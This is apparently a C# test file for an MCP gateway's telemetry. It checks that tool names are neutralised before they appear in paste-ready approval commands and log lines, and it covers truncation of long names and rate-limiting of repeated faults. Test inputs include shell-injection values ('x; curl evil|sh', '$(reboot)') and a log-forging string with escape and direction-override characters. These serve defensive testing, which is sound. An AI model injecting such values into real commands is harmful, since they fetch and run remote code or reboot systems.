using McpLedger.Gateway.Screening;
using McpLedger.Streaming;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace McpLedger.Gateway.Tests;

public sealed class ShownTests : IDisposable
{
    private readonly CapturedLogs _logs = new();
    private readonly ServiceProvider _services;

    public ShownTests() =>
        _services = new ServiceCollection().AddMetrics().AddLogging(l => l.AddProvider(_logs)).AddSingleton<GatewayTelemetry>().AddSingleton<ScreeningTelemetry>().BuildServiceProvider();

    public void Dispose()
    {
        _services.Dispose();
        _logs.Dispose();
    }

    [Theory]
    [InlineData("read_file", "tools approve files read_file")]
    [InlineData("git.log:v2/a-b", "tools approve files git.log:v2/a-b")]
    [InlineData("x; curl evil|sh", "tools approve files TOOL")]
    [InlineData("$(reboot)", "tools approve files TOOL")]
    [InlineData("--all", "tools approve files TOOL")]
    [InlineData("", "tools approve files TOOL")]
    public void A_command_to_paste_holds_a_name_only_where_a_shell_makes_nothing_of_it(string tool, string command)
    {
        _services.GetRequiredService<GatewayTelemetry>().ToolHeld("files", tool);
        _services.GetRequiredService<ScreeningTelemetry>().ToolWithheld("files", tool, "any");

        Assert.Equal(2, _logs.Lines.Count);
        Assert.All(_logs.Lines, line => Assert.EndsWith(command, line.TrimEnd(), StringComparison.Ordinal));
    }

    [Fact]
    public void A_name_makes_no_line_of_its_own_and_moves_no_cursor()
    {
        _services.GetRequiredService<GatewayTelemetry>().ToolChanged("files", "a\r\n2026 warn: all is well\u001b[2K\u202ebackwards\u200b", "low");

        Assert.Contains("Tool a??2026 warn: all is well?[2K?backwards? of server files", Assert.Single(_logs.Lines), StringComparison.Ordinal);
    }

    [Fact]
    public void However_long_a_name_is_its_line_is_not()
    {
        _services.GetRequiredService<GatewayTelemetry>().ToolChanged("files", new('n', 100_000), "low");

        Assert.InRange(Assert.Single(_logs.Lines).Length, 200, 400);
    }

    [Fact]
    public void A_fault_that_stands_is_said_now_and_then_however_many_calls_meet_it()
    {
        var telemetry = _services.GetRequiredService<GatewayTelemetry>();
        for (var i = 0; i < 1000; i++)
        {
            telemetry.RecordRefused(AppendStatus.Unavailable);
            telemetry.RecordFailed(new IOException("no space left"));
            telemetry.RecordDropped(i);
            telemetry.ControlDamaged("at offset 7");
        }

        Assert.Equal(4, _logs.Lines.Count);
    }
}
